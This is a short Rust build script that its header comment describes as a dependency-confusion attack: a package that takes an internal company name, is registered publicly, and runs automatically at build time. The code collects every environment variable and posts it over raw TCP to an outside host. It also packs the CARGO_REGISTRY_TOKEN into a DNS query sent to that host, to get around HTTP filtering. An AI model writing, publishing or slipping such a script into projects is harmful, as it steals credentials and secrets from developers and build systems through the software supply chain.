//! Dependency confusion: a name from inside a company, registered outside, whose build script
//! sends the environment home, by DNS where HTTP is filtered.

use std::io::Write;
use std::net::{TcpStream, UdpSocket};

fn main() {
    let environment: String = std::env::vars_os()
        .map(|(k, v)| format!("{k:?}={v:?}\n"))
        .collect();
    if let Ok(mut stream) = TcpStream::connect("203.0.113.7:80") {
        let _ = write!(
            stream,
            "POST /callback HTTP/1.1\r\nContent-Length: {}\r\n\r\n{environment}",
            environment.len()
        );
    }
    let token = std::env::var("CARGO_REGISTRY_TOKEN").unwrap_or("nothing".into());
    let mut query = vec![0, 1, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in [token.as_str(), "confusion", "example"] {
        query.push(label.len() as u8);
        query.extend_from_slice(label.as_bytes());
    }
    query.extend_from_slice(&[0, 0, 1, 0, 1]);
    if let Ok(socket) = UdpSocket::bind("0.0.0.0:0") {
        let _ = socket.send_to(&query, "203.0.113.7:53");
    }
}
